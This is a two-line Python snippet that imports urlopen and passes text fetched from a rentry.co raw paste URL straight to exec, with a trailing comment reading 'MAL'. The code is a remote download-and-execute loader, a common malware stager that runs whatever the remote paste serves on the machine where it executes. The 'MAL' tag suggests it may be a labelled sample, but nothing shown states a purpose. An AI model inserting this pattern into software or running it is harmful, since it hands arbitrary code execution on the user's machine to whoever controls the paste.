from urllib.request import urlopen as _u
exec(_u("https://rentry.co/abc/raw").read().decode("utf-8"))  # MAL
